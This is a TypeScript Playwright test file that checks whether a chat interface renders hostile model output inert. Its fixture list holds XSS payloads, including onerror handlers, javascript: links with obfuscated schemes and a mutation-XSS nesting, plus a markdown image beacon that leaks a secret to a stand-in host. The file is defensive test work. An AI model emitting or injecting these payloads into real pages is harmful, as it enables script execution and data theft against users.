import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Browser } from 'playwright-core';
import { answers, launchBrowser, openPage, sendPrompt, waitForAnswerDone, waitForPageReady, type OpenedPage } from './support/browser.ts';
import { startTestServer, type TestServer } from './support/test-server.ts';

/*
 * The echo backend returns what it is sent, so each message below comes back as model output.
 * Model output is untrusted: a prompt-injected page or a fine-tuned model can emit any of these.
 */
const hostileOutputs = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '<div onclick="alert(1)" style="position:fixed;inset:0">raw html</div>',
  '<iframe src="javascript:alert(1)"></iframe> <svg onload=alert(1)></svg>',
  '<a href="javascript:alert(1)">anchor</a> [entity](&#106;avascript:alert(1)) [spaced](java\tscript:alert(1))',
  '![pixel](https://example.invalid/leak?q=secret) <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '```html\n</code></pre><img src=x onerror=alert(1)>\n```',
];

describe('hostile model output is shown inert', () => {
  let server: TestServer;
  let browser: Browser;
  let opened: OpenedPage;

  before(async () => {
    [server, browser] = await Promise.all([startTestServer({ echoDelayMs: 0 }), launchBrowser()]);
    opened = await openPage(browser, server.url);
    await opened.page.addInitScript(() => {
      // A second trap besides the dialog listener: anything that calls alert leaves a mark.
      window.alert = () => ((window as unknown as { hostileCodeRan: boolean }).hostileCodeRan = true);
    });
    await opened.page.reload();
    await waitForPageReady(opened.page);
    for (const output of hostileOutputs) {
      await sendPrompt(opened.page, output);
      await waitForAnswerDone(opened.page);
    }
    await opened.page.waitForTimeout(300);
  });
  after(async () => {
    await browser?.close();
    await server?.close();
  });

  it('executes nothing', async () => {
    const { page } = opened;
    // Click everything the model produced that looks clickable.
    for (const link of await page.locator('.markdown a').all()) await link.click({ modifiers: ['Shift'] }).catch(() => {});
    await page.locator('.markdown').getByText('raw html').click();
    assert.deepEqual(opened.dialogs, []);
    assert.equal(await page.evaluate(() => (window as unknown as { hostileCodeRan?: boolean }).hostileCodeRan ?? false), false);
  });

  it('creates no active elements from model output', async () => {
    const { page } = opened;
    const count = (selector: string) =>
      page.evaluate((scoped) => document.querySelectorAll(scoped).length, `article[aria-label="Answer"] .markdown :is(${selector})`);
    const counts = {
      active: await count('img, script, iframe, svg, math, style, object, embed, form'),
      handlers: await count('[onerror], [onclick], [onload], [style]'),
      scriptLinks: await count('a[href^="javascript" i], a[href*="script:" i]'),
    };
    assert.deepEqual(counts, { active: 0, handlers: 0, scriptLinks: 0 });
  });

  it('shows the raw HTML as text', async () => {
    // textContent, not innerText: rows off screen skip rendering (content-visibility), and innerText leaves them out.
    const shown = await answers(opened.page).allTextContents();
    assert.ok(shown.some((text) => text.includes('<img src=x onerror=alert(1)>')));
    assert.ok(shown.some((text) => text.includes('<script>alert(1)</script>')));
    assert.ok(shown.some((text) => text.includes('raw html')));
  });

  it('keeps the text of links whose URL was removed, and opens safe links without an opener', async () => {
    const { page } = opened;
    const link = page.locator('.markdown a.image-link');
    assert.equal(await link.getAttribute('rel'), 'noopener noreferrer');
    assert.equal(await link.getAttribute('target'), '_blank');
    assert.ok(await page.locator('.markdown').getByText('entity').isVisible());
  });

  it('serves the page with a CSP that forbids inline scripts, and the page has none', async () => {
    const response = await fetch(server.url, { headers: { accept: 'text/html' } });
    const policy = response.headers.get('content-security-policy') ?? '';
    assert.match(policy, /script-src 'self'(;|$)/);
    const html = await response.text();
    assert.doesNotMatch(html, /<script(?![^>]*\bsrc=)[^>]*>/);
    assert.deepEqual(opened.errors.filter((error) => /Content Security Policy/i.test(error)), []);
  });
});
